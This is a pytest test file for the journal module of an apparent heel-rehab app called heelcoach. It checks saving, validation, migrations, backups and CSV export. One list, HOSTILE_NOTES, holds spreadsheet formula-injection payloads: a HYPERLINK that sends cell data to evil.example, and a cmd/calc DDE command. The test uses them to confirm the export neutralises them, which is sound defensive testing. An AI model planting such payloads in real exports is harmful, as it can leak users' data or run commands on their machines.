"""The journal keeps every set and check-in, refuses bad ones whole, and loses nothing."""

import csv
import os
import stat
from datetime import date, datetime, timedelta
from pathlib import Path

import orjson
import pytest

from heelcoach.journal.entries import (
    ANSWERS,
    CHECK_INS,
    RUNS,
    SESSIONS,
    SETS,
    STRETCHES,
    InvalidEntryError,
)
from heelcoach.journal.exchange import export_csv, restore_backup, write_backup
from heelcoach.journal.journal import JOURNAL_FILE, Journal
from heelcoach.journal.migrations import SCHEMA_VERSION

NOW = datetime(2026, 11, 25, 9, 30)


def a_set(**changes):
    return {"at": "2026-11-24T18:00:00", "leg": "left", "target_reps": 12, "reps": 12,
            "load_kg": 5.0, "pain": 3, **changes}  # fmt: skip


def opened(folder):
    return Journal(folder, now=lambda: NOW)


def test_a_set_is_on_disk_when_add_returns_and_after_a_restart(tmp_path):
    journal = opened(tmp_path)
    doc_id = journal.add_set(**a_set(note="felt good"))
    on_disk = orjson.loads((tmp_path / JOURNAL_FILE).read_bytes())
    assert on_disk[SETS][str(doc_id)]["note"] == "felt good"
    journal.close()
    again = opened(tmp_path)
    [entry] = again.entries(SETS)
    assert (entry["reps"], entry["load_kg"], entry["pain"]) == (12, 5.0, 3)
    assert entry["tempo_ms"] == [3000, 2000, 3000, 0]  # defaults filled in


def test_the_journal_and_its_backups_are_private(tmp_path):
    journal = opened(tmp_path)
    journal.add_set(**a_set())
    journal.close()
    opened(tmp_path).back_up_today()
    files = [tmp_path / JOURNAL_FILE, *(tmp_path / "backups").iterdir()]
    assert len(files) == 2
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"pain": 11}, "pain during the set must be from 0 to 10, not 11"),
        ({"pain": -1}, "pain during the set must be from 0 to 10, not -1"),
        ({"reps": -3}, "reps must be from 0 to 100, not -3"),
        ({"load_kg": -2.5}, "load must be from 0 to 200 kg, not -2.5"),
        ({"at": "2026-11-26T08:00:00"}, "2026-11-26 08:00 is in the future"),
        ({"leg": "middle"}, "the leg must be left, right or both, not 'middle'"),
        ({"pain": "a lot"}, "pain during the set must be a whole number from 0 to 10, not 'a lot'"),
    ],
)
def test_a_bad_entry_gets_a_clear_error_and_nothing_is_written(tmp_path, changes, message):
    journal = opened(tmp_path)
    journal.add_set(**a_set())
    before = (tmp_path / JOURNAL_FILE).read_bytes()
    with pytest.raises(InvalidEntryError) as error:
        journal.add_set(**a_set(**changes))
    assert str(error.value) == message
    assert (tmp_path / JOURNAL_FILE).read_bytes() == before
    assert len(journal.entries(SETS)) == 1


def test_a_check_in_in_the_future_is_refused(tmp_path):
    journal = opened(tmp_path)
    with pytest.raises(InvalidEntryError, match="2026-11-26 is in the future"):
        journal.add_check_in(date="2026-11-26", first_steps_pain=2)


def test_one_check_in_a_day_a_second_one_corrects_it(tmp_path):
    journal = opened(tmp_path)
    first = journal.add_check_in(date="2026-11-25", first_steps_pain=6)
    second = journal.add_check_in(date="2026-11-25", first_steps_pain=4, worse_after_training=False)
    assert first == second
    assert journal.check_in_for(date(2026, 11, 25))["first_steps_pain"] == 4
    assert journal.counts()[CHECK_INS] == 1


def test_fields_this_version_does_not_know_are_kept(tmp_path):
    journal = opened(tmp_path)
    doc_id = journal.add_set(**a_set(heart_rate=92))
    journal.update(SETS, doc_id, pain=5)
    journal.close()
    entry = opened(tmp_path).entry(SETS, doc_id)
    assert (entry["heart_rate"], entry["pain"]) == (92, 5)


def test_an_unreadable_journal_is_moved_aside_byte_for_byte_and_a_fresh_one_starts(tmp_path):
    damaged = b'{"sets": {"1": {"at": "2026-11-2'  # cut off mid-write by another program
    (tmp_path / JOURNAL_FILE).write_bytes(damaged)
    journal = opened(tmp_path)
    assert journal.moved_aside is not None
    assert journal.moved_aside.name == "journal.unreadable-20261125-093000.json"
    assert journal.moved_aside.read_bytes() == damaged
    assert set(journal.counts().values()) == {0}
    journal.add_set(**a_set())
    assert journal.moved_aside.read_bytes() == damaged  # never overwritten


def test_a_journal_from_before_versions_is_brought_up_keeping_everything(tmp_path):
    old = {"sets": {"1": a_set(), "2": a_set(reps=10, colour="red")}, "notes": {"1": {"x": 1}}}
    (tmp_path / JOURNAL_FILE).write_bytes(orjson.dumps(old))
    journal = opened(tmp_path)
    data = journal.data()
    assert data["meta"]["1"]["schema_version"] == SCHEMA_VERSION
    assert data["sets"]["2"]["colour"] == "red"
    assert data["notes"] == {"1": {"x": 1}}  # a table we do not know is kept too


def test_a_deleted_entry_comes_back_with_undo(tmp_path):
    journal = opened(tmp_path)
    keep = journal.add_set(**a_set(note="keep"))
    gone = journal.add_set(**a_set(note="oops"))
    journal.delete(SETS, gone)
    assert [entry["note"] for entry in journal.entries(SETS)] == ["keep"]
    assert journal.undo_delete() == (SETS, gone)
    journal.close()
    again = opened(tmp_path)
    assert again.entry(SETS, gone)["note"] == "oops"
    assert again.entry(SETS, keep)["note"] == "keep"


def test_seven_daily_backups_are_kept(tmp_path):
    for day in range(10):
        moment = NOW + timedelta(days=day)
        journal = Journal(tmp_path, now=lambda moment=moment: moment)
        journal.back_up_today()
        journal.add_set(**a_set())
        journal.close()
    backups = sorted(path.name for path in (tmp_path / "backups").iterdir())
    assert len(backups) == 7
    assert backups[-1] == "journal-2026-12-04.json"


def test_csv_has_a_row_per_set_and_per_check_in(tmp_path):
    journal = opened(tmp_path)
    journal.add_set(**a_set(tempo_ms=[3000, 2000, 3000, 0], note="a, b"))
    journal.add_set(**a_set(leg="right", reps=10, pain=None))
    journal.add_check_in(date="2026-11-25", first_steps_pain=4, worse_after_training=True)
    assert export_csv(journal, tmp_path / "out.csv") == 3
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0][:9] == ["kind", "date", "time", "leg", "target_reps", "reps", "load_kg",
                           "tempo_s", "pain"]  # fmt: skip
    assert rows[1][:14] == ["set", "2026-11-24", "18:00:00", "left", "12", "12", "5.0",
                            "3-2-3-0", "3", "", "", "a, b", "", ""]  # fmt: skip
    assert rows[2][:14] == ["set", "2026-11-24", "18:00:00", "right", "12", "10", "5.0",
                            "3-2-3-0", "", "", "", "", "", ""]  # fmt: skip
    assert rows[3] == ["check-in", "2026-11-25", "", "", "", "", "", "", "", "4", "yes", "", "",
                       ""] + [""] * 12  # fmt: skip


def test_csv_has_the_stretches_and_the_walk_runs_too(tmp_path):
    journal = opened(tmp_path)
    journal.add_stretch(at="2026-11-24T08:00:00", exercise="calf_stretch", leg="left",
                        target=3, done=2, hold_s=30, stopped=True)  # fmt: skip
    journal.add_run(at="2026-11-24T18:30:00", week=2, run_s=930, planned_run_s=960, cycles=7,
                    planned_cycles=8, pain_during=3, pain_after=2, note="windy")  # fmt: skip
    assert export_csv(journal, tmp_path / "out.csv") == 2
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0][12:14] == ["minutes_run", "pain_after"]
    assert rows[1][:14] == ["calf_stretch", "2026-11-24", "08:00:00", "left", "3", "2", "",
                            "30", "", "", "", "", "", ""]  # fmt: skip
    assert rows[2][:14] == ["walk_run", "2026-11-24", "18:30:00", "", "8", "7", "", "", "3",
                            "", "", "windy", "15.5", "2"]  # fmt: skip


# Every field each kind of entry keeps, with a value that is not its default.
EVERY_FIELD = {
    SETS: dict(
        a_set(),
        exercise="heel_raise",
        tempo_ms=[3000, 2000, 3000, 0],
        note="heavy",
        session="2026-11-24T17:55:00",
        effort="too_heavy",
        stopped=True,
        to_failure=True,
    ),
    SESSIONS: {
        "at": "2026-11-24T18:10:00",
        "pain_after": 4,
        "note": "ok",
        "verdict": "hold",
        "took": "full",
        "stopped": True,
    },
    CHECK_INS: {
        "date": "2026-11-25",
        "first_steps_pain": 6,
        "worse_after_training": False,
        "note": "stiff",
    },
    STRETCHES: {
        "at": "2026-11-24T08:00:00",
        "exercise": "fascia_stretch",
        "leg": "right",
        "target": 3,
        "done": 3,
        "hold_s": 45,
        "session": "2026-11-24T07:58:00",
        "stopped": False,
    },
    RUNS: {
        "at": "2026-11-24T19:00:00",
        "week": 3,
        "run_s": 600,
        "planned_run_s": 720,
        "cycles": 5,
        "planned_cycles": 6,
        "pain_during": 2,
        "pain_after": 1,
        "note": "hill",
        "stopped": True,
    },
    ANSWERS: {
        "at": "2026-11-24T07:00:00",
        "question": "red_flags",
        "yes": ["numbness", "fever"],
        "symptoms_for": "3_to_12_months",
        "note": "since May",
    },
}


def test_csv_carries_every_field_the_journal_keeps(tmp_path):
    from heelcoach.journal.entries import FIELDS

    for table, kinds in FIELDS.items():  # a field added to the journal must reach the CSV
        assert set(EVERY_FIELD[table]) == set(kinds), table
    journal = opened(tmp_path)
    adds = {SETS: journal.add_set, SESSIONS: journal.add_session,
            CHECK_INS: journal.add_check_in, STRETCHES: journal.add_stretch,
            RUNS: journal.add_run, ANSWERS: journal.add_answer}  # fmt: skip
    for table, entry in EVERY_FIELD.items():
        adds[table](**entry)
    assert export_csv(journal, tmp_path / "out.csv") == 6
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
        rows = {row["kind"]: row for row in csv.DictReader(file)}
    filled = {kind: {name: value for name, value in row.items() if value}
              for kind, row in rows.items()}  # fmt: skip
    assert filled["set"] == {
        "kind": "set", "date": "2026-11-24", "time": "18:00:00", "leg": "left",
        "target_reps": "12", "reps": "12", "load_kg": "5.0", "tempo_s": "3-2-3-0",
        "pain": "3", "note": "heavy", "exercise": "heel_raise", "effort": "too_heavy",
        "stopped": "yes", "to_failure": "yes", "session": "2026-11-24T17:55:00",
    }  # fmt: skip
    assert filled["session"] == {
        "kind": "session", "date": "2026-11-24", "time": "18:10:00", "pain": "4",
        "note": "ok", "stopped": "yes", "verdict": "hold", "took": "full",
    }  # fmt: skip
    assert filled["check-in"] == {
        "kind": "check-in", "date": "2026-11-25", "first_steps_pain": "6",
        "worse_after_training": "no", "note": "stiff",
    }  # fmt: skip
    assert filled["fascia_stretch"] == {
        "kind": "fascia_stretch", "date": "2026-11-24", "time": "08:00:00", "leg": "right",
        "target_reps": "3", "reps": "3", "tempo_s": "45", "exercise": "fascia_stretch",
        "stopped": "no", "session": "2026-11-24T07:58:00",
    }  # fmt: skip
    assert filled["walk_run"] == {
        "kind": "walk_run", "date": "2026-11-24", "time": "19:00:00", "target_reps": "6",
        "reps": "5", "pain": "2", "pain_after": "1", "minutes_run": "10", "note": "hill",
        "stopped": "yes", "week": "3", "minutes_planned": "12",
    }  # fmt: skip
    assert filled["answer"] == {
        "kind": "answer", "date": "2026-11-24", "time": "07:00:00", "note": "since May",
        "question": "red_flags", "answered_yes": "numbness, fever",
        "symptoms_for": "3_to_12_months",
    }  # fmt: skip


def test_a_backup_restores_the_journal_exactly(tmp_path):
    journal = opened(tmp_path / "a")
    journal.add_set(**a_set(extra={"nested": [1, 2]}))
    journal.add_check_in(date="2026-11-20", first_steps_pain=7)
    journal.add_session(at="2026-11-24T18:30:00", pain_after=2, note="ok")
    write_backup(journal, tmp_path / "backup.json")

    other = opened(tmp_path / "b")
    other.add_set(**a_set(note="to be replaced"))
    replaced = (tmp_path / "b" / JOURNAL_FILE).read_bytes()
    kept = restore_backup(other, tmp_path / "backup.json", NOW)
    assert other.data() == journal.data()
    other.close()
    assert opened(tmp_path / "b").data() == journal.data()
    assert kept.parent == tmp_path / "b" / "backups"
    assert kept.read_bytes() == replaced  # journal.json as it was, byte for byte


@pytest.mark.parametrize(
    "content",
    [b"", b"not json", b"[]", b'{"sets": {}}', b'{"meta": {}, "sets": {"1": {"pain": 99}}}',
     b'{"meta": {}, "sets": []}', b'{"meta": {}, "sets": {"x": {}}}'],
)  # fmt: skip
def test_a_bad_backup_is_refused_and_the_journal_is_untouched(tmp_path, content):
    journal = opened(tmp_path)
    journal.add_set(**a_set())
    before = (tmp_path / JOURNAL_FILE).read_bytes()
    (tmp_path / "bad.json").write_bytes(content)
    with pytest.raises(InvalidEntryError):
        restore_backup(journal, tmp_path / "bad.json", NOW)
    assert (tmp_path / JOURNAL_FILE).read_bytes() == before
    assert len(journal.entries(SETS)) == 1


def test_no_temporary_files_are_left_behind(tmp_path):
    journal = opened(tmp_path)
    for _ in range(5):
        journal.add_set(**a_set())
    journal.back_up_today()
    assert sorted(os.listdir(tmp_path)) == ["backups", JOURNAL_FILE]
    assert os.listdir(tmp_path / "backups") == [f"journal-{NOW.date().isoformat()}.json"]


HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "line one\rline two",
    'quote " and, comma\nnew line',
]


CSV_NOTE = 11


def test_csv_cells_never_start_a_formula_and_a_bare_cr_never_splits_a_row(tmp_path):
    journal = opened(tmp_path)
    for note in HOSTILE_NOTES:
        journal.add_set(**a_set(note=note))
    assert export_csv(journal, tmp_path / "out.csv") == len(HOSTILE_NOTES)
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert len(rows) == 1 + len(HOSTILE_NOTES)  # no row split by a line break or a CR
    notes = [row[CSV_NOTE] for row in rows[1:]]
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert notes == [("'" + note if note[0] in "=+-@\t\r" else note) for note in HOSTILE_NOTES]
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.count(b"\r\n") == len(rows)  # every row ends as RFC 4180 says


WRITTEN_BY = Path(__file__).parent / "written_by"


def test_a_journal_heelcoach_0_1_wrote_opens_with_everything_and_says_which_sets_stopped(
    tmp_path,
):
    as_written = (WRITTEN_BY / "heelcoach-0.1.json").read_bytes()
    (tmp_path / JOURNAL_FILE).write_bytes(as_written)
    journal = opened(tmp_path)
    kept = list((tmp_path / "backups").glob("journal-version-1-*.json"))
    assert [path.read_bytes() for path in kept] == [as_written]  # first, a copy as it was
    old, new = orjson.loads(as_written), journal.data()
    assert new["meta"]["1"]["schema_version"] == SCHEMA_VERSION == 5
    for table in ("sets", "sessions", "check_ins"):
        assert new[table].keys() == old[table].keys()
        for key, entry in old[table].items():
            assert entry.items() <= new[table][key].items()  # every field, as it was
    assert [s["stopped"] for s in new["sets"].values()] == [False, False, True]  # 7 of 12
    assert all(s["effort"] is None and s["to_failure"] is False for s in new["sets"].values())
    journal.add_set(**a_set(effort="easy"))
    assert opened(tmp_path).entries(SETS)[-1]["effort"] == "easy"


def test_a_journal_of_version_2_opens_with_everything_and_takes_stretches_and_runs(tmp_path):
    as_written = (WRITTEN_BY / "heelcoach-0.1-schema-2.json").read_bytes()
    (tmp_path / JOURNAL_FILE).write_bytes(as_written)
    journal = opened(tmp_path)
    kept = list((tmp_path / "backups").glob("journal-version-2-*.json"))
    assert [path.read_bytes() for path in kept] == [as_written]  # first, a copy as it was
    old, new = orjson.loads(as_written), journal.data()
    assert new["meta"]["1"]["schema_version"] == 5
    assert new["meta"]["1"]["last_ids"] == old["meta"]["1"]["last_ids"]
    for table in ("sets", "check_ins", "trash"):
        assert new[table] == old[table]  # every entry, every field, as it was
    for key, entry in old["sessions"].items():  # and the sessions say no verdict (version 4)
        assert new["sessions"][key] == {**entry, "verdict": None, "took": None, "stopped": False}
    assert journal.counts() == {"sets": 4, "sessions": 2, "check_ins": 2, "stretches": 0,
                                "runs": 0, "answers": 0}  # fmt: skip
    assert journal.undo_delete() == ("sessions", 3)  # its trash still undoes
    journal.add_stretch(at="2026-11-06T08:00:00", exercise="calf_stretch", leg="left",
                        target=3, done=3, hold_s=30)  # fmt: skip
    journal.add_run(at="2026-11-06T09:00:00", week=1, run_s=480, planned_run_s=480,
                    cycles=8, planned_cycles=8, pain_during=2)  # fmt: skip
    again = opened(tmp_path)
    assert [e["exercise"] for e in again.entries(STRETCHES)] == ["calf_stretch"]
    assert [e["pain_during"] for e in again.entries(RUNS)] == [2]
    assert len(again.entries(SESSIONS)) == 3  # a stretch or a run is no heel-raise session


def test_a_journal_of_version_3_opens_with_everything_and_takes_the_coachs_answers(tmp_path):
    as_written = (WRITTEN_BY / "heelcoach-0.2-schema-3.json").read_bytes()
    (tmp_path / JOURNAL_FILE).write_bytes(as_written)
    journal = opened(tmp_path)
    kept = list((tmp_path / "backups").glob("journal-version-3-*.json"))
    assert [path.read_bytes() for path in kept] == [as_written]  # first, a copy as it was
    old, new = orjson.loads(as_written), journal.data()
    assert new["meta"]["1"]["schema_version"] == 5
    assert new["meta"]["1"]["last_ids"] == old["meta"]["1"]["last_ids"]
    for table in ("sets", "check_ins", "stretches", "runs"):
        assert new[table] == old[table]  # every entry, every field, as it was
    for key, entry in old["sessions"].items():
        assert new["sessions"][key] == {**entry, "verdict": None, "took": None, "stopped": False}
    assert [s["note"] for s in journal.entries(SESSIONS)] == ["new shoes", ""]
    journal.add_answer(at="2026-11-24T19:00:00", question="red_flags", yes=["numbness"],
                       symptoms_for="3_to_12_months")  # fmt: skip
    journal.add_session(at="2026-11-24T19:30:00", verdict="see_clinician", took="own")
    again = opened(tmp_path)
    assert [a["yes"] for a in again.entries(ANSWERS)] == [["numbness"]]
    assert [s["took"] for s in again.entries(SESSIONS)] == ["own", None, None]  # by time
    with pytest.raises(InvalidEntryError, match="red flags answered yes"):
        again.add_answer(at="2026-11-24T19:40:00", question="red_flags", yes=["headache"])


def test_a_journal_of_version_4_opens_with_everything_and_its_new_ids_are_a_writers(tmp_path):
    as_written = (WRITTEN_BY / "heelcoach-0.2-schema-4.json").read_bytes()
    (tmp_path / JOURNAL_FILE).write_bytes(as_written)
    journal = Journal(tmp_path, now=lambda: datetime(2026, 12, 2, 20, 0))
    kept = list((tmp_path / "backups").glob("journal-version-4-*.json"))
    assert [path.read_bytes() for path in kept] == [as_written]  # first, a copy as it was
    old, new = orjson.loads(as_written), journal.data()
    assert new["meta"]["1"] == {**old["meta"]["1"], "schema_version": 5}
    for table in ("sets", "sessions", "check_ins", "stretches", "runs", "answers", "trash"):
        assert new[table] == old[table]  # every entry, every field, under its id
    added = journal.add_set(at="2026-12-02T18:00:00", leg="left", target_reps=12, reps=12)
    assert added not in {1, 2, 3}  # not the deleted set's id 1, nor the next count, 4
    assert journal.undo_delete() == (SETS, 1)  # its trash still undoes, under the old id
    again = opened(tmp_path)
    assert sorted(entry.doc_id for entry in again.entries(SETS)) == [1, 2, 3, added]
    assert [s["note"] for s in again.entries(SESSIONS)] == ["stopped: calf cramp"]
